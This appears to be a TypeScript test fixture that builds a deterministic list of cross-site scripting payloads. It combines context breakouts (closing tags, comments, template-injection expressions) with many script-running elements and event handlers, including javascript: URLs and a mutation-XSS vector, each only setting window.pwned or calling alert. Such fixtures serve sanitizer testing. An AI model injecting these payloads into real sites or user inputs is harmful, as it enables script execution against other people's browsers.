// Markup that would run a script where a page takes text for markup: elements × events × ways to write them. Each sets `window.pwned` or opens a dialog.

const SCRIPT = ['window.pwned=1', "window['pwned']=1", 'alert(1)', 'top.pwned=1', "setTimeout('window.pwned=1')"];

const ELEMENTS = [
  (js: string): string => `<script>${js}</script>`,
  (js: string): string => `<img src=x onerror="${js}">`,
  (js: string): string => `<svg onload="${js}"></svg>`,
  (js: string): string => `<svg><script>${js}</script></svg>`,
  (js: string): string => `<body onload="${js}">`,
  (js: string): string => `<iframe srcdoc="<script>parent.${js.replaceAll('"', '&quot;')}</script>"></iframe>`,
  (js: string): string => `<iframe src="javascript:${js}"></iframe>`,
  (js: string): string => `<a href="javascript:${js}" autofocus onfocus="${js}">x</a>`,
  (js: string): string => `<input autofocus onfocus="${js}">`,
  (js: string): string => `<details open ontoggle="${js}">x</details>`,
  (js: string): string => `<video><source onerror="${js}"></video>`,
  (js: string): string => `<marquee onstart="${js}">x</marquee>`,
  (js: string): string => `<object data="javascript:${js}"></object>`,
  (js: string): string => `<form><button formaction="javascript:${js}">x</button></form>`,
  (js: string): string => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`,
  (js: string): string => `<template shadowrootmode=open><script>${js}</script></template>`,
  (js: string): string => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  (js: string): string => `<link rel=stylesheet href="data:text/css,*{}" onload="${js}">`,
];

/** Ways out of where a text may stand: an attribute, a comment, a title, a script, a style, a JSON island, a template of a framework. */
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '{{constructor.constructor("window.pwned=1")()}}',
  '${window.pwned=1}',
];

/** Exactly `count` of them, all different, the same in each run. */
export function markupAttacks(count: number): string[] {
  const made = new Set<string>();
  for (const [b, breakout] of BREAKOUTS.entries())
    for (const [e, element] of ELEMENTS.entries()) made.add(`${breakout}${element(SCRIPT[(b + e) % SCRIPT.length] ?? '')}`);
  return [...made, 'javascript:window.pwned=1', 'data:text/html,<script>window.pwned=1</script>', '[x](javascript:window.pwned=1)'].slice(
    0,
    count,
  );
}
